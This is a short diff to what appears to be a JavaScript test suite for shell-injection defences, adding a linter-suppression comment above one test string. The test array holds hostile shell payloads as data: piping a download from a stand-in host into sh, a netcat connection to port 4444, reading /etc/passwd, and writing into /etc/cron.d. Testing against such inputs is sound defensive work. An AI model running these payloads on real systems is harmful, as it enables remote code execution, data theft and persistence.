@@ -24,6 +24,7 @@ describe("shell injection", () => {
     "a && curl evil.sh | sh",
     "$(whoami)",
     "`id`",
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell payload, not a JS template
     "${IFS}cat${IFS}/etc/passwd",
     "a | nc evil 4444",
     "a > /etc/cron.d/x",
